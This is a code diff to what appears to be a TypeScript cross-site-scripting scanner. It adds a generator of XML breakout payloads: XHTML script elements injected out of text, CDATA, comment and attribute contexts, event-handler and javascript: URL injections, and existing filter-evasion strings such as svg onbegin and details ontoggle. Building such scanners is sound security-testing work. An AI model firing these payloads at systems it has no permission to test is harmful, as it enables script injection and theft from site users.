@@ -1,4 +1,6 @@
 import type { ReflectionContext, ScriptContext } from './reflection-contexts.ts';
+import { xhtmlNamespace } from './xml-proof.ts';
+import type { XmlPlace } from './xml-proof.ts';
 
 /** A value to send, and what must then be found as code in a place that runs script. */
 export interface Breakout {
@@ -61,6 +63,8 @@ function payloads(context: ReflectionContext, token: string, code: string): stri
       ];
     case 'script':
       return [...outOfState(context.state, code), `</script>${elements[0]}`];
+    case 'xml':
+      return outOfXml(context.place, code);
   }
 }
 
@@ -77,6 +81,25 @@ function throughFilters(code: string): string[] {
     `<details open ontoggle=${code}><marquee onstart=${code}><video><source onerror=${code}></video><svg><animate onbegin=${code} attributeName=x dur=1s></svg><body onpageshow=${code}>`,
     `\\u003cimg src=x onerror=${code}\\u003e`,
   ];
+}
+
+/** XML has no elements that fail to load and fire: a script element of XHTML runs in any document. */
+function outOfXml(place: XmlPlace, code: string): string[] {
+  const script = `<x:script xmlns:x="${xhtmlNamespace}">${code}</x:script>`;
+  switch (place.kind) {
+    case 'text':
+      return [script, encodeURIComponent(script)];
+    case 'cdata':
+      return [`]]>${script}<![CDATA[`];
+    case 'comment':
+      return [`-->${script}<!--`];
+    case 'attribute': {
+      const { quote } = place;
+      const handlers = ['onload', 'onfocus'].map((name) => `${name}=${quote}${code}${quote}`).join(' ');
+      const handler = `${quote} ${handlers} tabindex=${quote}1${quote} autofocus=${quote}1`;
+      return [...(place.isLink ? [`javascript:${code}`] : []), `${quote}>${script}<y x=${quote}`, handler];
+    }
+  }
 }
 
 function outOfState(state: ScriptContext['state'], code: string): string[] {
